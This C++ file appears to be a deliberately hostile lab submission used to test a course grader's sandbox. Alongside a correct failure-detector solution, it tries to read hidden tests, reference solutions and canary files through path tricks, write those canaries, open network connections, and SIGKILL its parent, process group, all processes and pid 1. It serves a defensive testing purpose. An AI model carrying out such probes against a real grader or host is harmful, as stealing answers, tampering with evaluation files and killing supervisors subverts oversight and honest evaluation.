// Hostile lab-2 submission "snoop-and-kill" (grader/hostile/README.md): the correct solution,
// but on its first event the host process tries to read the hidden tests, the solutions and the
// grader's canary files, to write the canaries, to reach the network (a port the driver listens on
// outside the sandbox, unroutable and IPv6 addresses) and to kill its parent, its parent's group,
// every process (kill -1) and pid 1. If any of that succeeds (or the visible-file control fails),
// the host aborts after saying why, so a breach costs points. Expected: score 100.
#include "node.hpp"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstdlib>
#include <cstdio>
#include <cstring>
#include <string>

namespace lab2 {
namespace {

constexpr const char* kSecrets[] = {
    "@SOURCE_ROOT@/labs/lab2-detector/tests/hidden/scenarios.hpp",
    "@SOURCE_ROOT@/labs/lab2-detector/tests/hidden/detector_hidden_test.cpp",
    "@SOURCE_ROOT@/solutions/lab2-detector/node.cpp",
    "@SOURCE_ROOT@/course.toml",
    "@BUILD_ROOT@/runtime/../../labs/lab2-detector/tests/hidden/scenarios.hpp",
    "../../labs/lab2-detector/tests/hidden/scenarios.hpp",
    "labs/lab2-detector/tests/hidden/scenarios.hpp",
    "/proc/1/root@SOURCE_ROOT@/labs/lab2-detector/tests/hidden/scenarios.hpp",
    "/proc/self/root@SOURCE_ROOT@/labs/lab2-detector/tests/hidden/scenarios.hpp",
    "/proc/1/cwd/labs/lab2-detector/tests/hidden/scenarios.hpp",
    "@CANARY_DIR@/ledger.json",
    "@CANARY_DIR@/report.json",
};

// Returns true if a secret could be opened (and prints its first line, as a thief would).
bool read_secrets() {
  bool leaked = false;
  for (const char* path : kSecrets) {
    std::FILE* f = std::fopen(path, "r");
    if (f == nullptr) continue;
    char line[256] = {};
    if (std::fgets(line, sizeof line, f) != nullptr) std::fprintf(stderr, "LEAKED %s: %s", path, line);
    std::fclose(f);
    leaked = true;
  }
  for (const char* path : {"@CANARY_DIR@/ledger.json", "@CANARY_DIR@/report.json"}) {
    const int fd = open(path, O_WRONLY | O_APPEND);
    if (fd < 0) continue;
    std::fprintf(stderr, "LEAKED: %s is writable\n", path);
    close(fd);
    leaked = true;
  }
  return leaked;
}

// Returns true if a connection (or a datagram) left: non-blocking connect, 300 ms to complete.
bool try_connect(int family, const sockaddr* addr, socklen_t len, int type) {
  const int s = socket(family, type | SOCK_NONBLOCK, 0);
  if (s < 0) return false;
  bool out = false;
  if (type == SOCK_DGRAM) {
    // A datagram to the private loopback "succeeds" locally; only the driver's listener outside
    // can tell whether it left, so it is sent but not counted here.
    (void)sendto(s, "LEAK", 4, 0, addr, len);
  } else if (connect(s, addr, len) == 0) {
    out = true;
  } else if (errno == EINPROGRESS) {
    pollfd p{s, POLLOUT, 0};
    int err = 0;
    socklen_t el = sizeof err;
    out = poll(&p, 1, 300) == 1 && getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &el) == 0 && err == 0;
  }
  if (out) std::fprintf(stderr, "LEAKED: network egress (family %d, type %d)\n", family, type);
  close(s);
  return out;
}

bool egress() {
  bool out = false;
  const auto v4 = [&](const char* ip, int port, int type) {
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<std::uint16_t>(port));
    inet_pton(AF_INET, ip, &a.sin_addr);
    out = try_connect(AF_INET, reinterpret_cast<const sockaddr*>(&a), sizeof a, type) || out;
  };
  v4("127.0.0.1", @EGRESS_PORT@, SOCK_STREAM);  // the driver listens there, outside the sandbox
  v4("192.0.2.1", 80, SOCK_STREAM);              // TEST-NET-1: documentation, never routed
  v4("10.255.255.1", 80, SOCK_STREAM);           // private, unroutable here
  v4("192.0.2.1", 53, SOCK_DGRAM);
  v4("127.0.0.1", @EGRESS_PORT@, SOCK_DGRAM);
  sockaddr_in6 a6{};
  a6.sin6_family = AF_INET6;
  a6.sin6_port = htons(static_cast<std::uint16_t>(@EGRESS_PORT@));
  a6.sin6_addr = in6addr_loopback;
  out = try_connect(AF_INET6, reinterpret_cast<const sockaddr*>(&a6), sizeof a6, SOCK_STREAM) || out;
  return out;
}

// Tries to kill whatever supervises us. Success shows as a dead host (a failed test).
void kill_parents() {
  const pid_t parent = getppid();
  const pid_t parent_group = getpgid(parent);
  kill(parent, SIGKILL);
  if (parent_group > 0 && parent_group != getpgrp()) kill(-parent_group, SIGKILL);
  kill(-1, SIGKILL);  // every process we may signal, except ourselves
  kill(1, SIGKILL);
}

bool compromised() {
  static const bool once = [] {
    // As root the sandbox is broken, and kill(-1) would take the machine down: report, do not kill.
    if (getuid() == 0 || geteuid() == 0) {
      std::fprintf(stderr, "LEAKED: the node host runs as root\n");
      return true;
    }
    // Control: a file every sandbox shows must be readable, or the probes prove nothing.
    std::FILE* control = std::fopen("/proc/self/status", "r");
    if (control == nullptr) {
      std::fprintf(stderr, "LEAKED? control: /proc/self/status unreadable, probes prove nothing\n");
      return true;
    }
    std::fclose(control);
    const bool leaked = read_secrets();
    const bool out = egress();
    kill_parents();
    return leaked || out;
  }();
  return once;
}

}  // namespace


void DetectorNode::on_start(Context& ctx) {
  if (compromised()) std::abort();  // a breach must cost points
  alive_ = std::set<NodeId>(ctx.nodes().begin(), ctx.nodes().end());
  detector_.reset(ctx.nodes());
  leader_.reset(ctx.nodes());
  announce_leader(ctx);
  ctx.set_timer(detector_.delay(), Timeout{});
}

void DetectorNode::on_message(Context& ctx, NodeId from, const Protocol::Message& msg) {
  if (compromised()) std::abort();  // a breach must cost points
  if (std::holds_alternative<HeartbeatRequest>(msg)) {
    ctx.send(from, HeartbeatReply{});
  } else if (std::holds_alternative<HeartbeatReply>(msg)) {
    alive_.insert(from);
  }
}

void DetectorNode::on_timer(Context& ctx, const Protocol::Timer& /*timer*/) {
  if (compromised()) std::abort();  // a breach must cost points
  const Changes changes = detector_.on_timeout(alive_);
  for (NodeId p : changes.suspected) ctx.output(Suspect{p});
  for (NodeId p : changes.restored) ctx.output(Restore{p});
  if (!changes.suspected.empty() || !changes.restored.empty()) announce_leader(ctx);
  ctx.broadcast(HeartbeatRequest{});
  alive_.clear();
  ctx.set_timer(detector_.delay(), Timeout{});
}

void DetectorNode::announce_leader(Context& ctx) {
  if (auto leader = leader_.on_suspected_changed(detector_.suspected())) ctx.output(Trust{*leader});
}

}  // namespace lab2
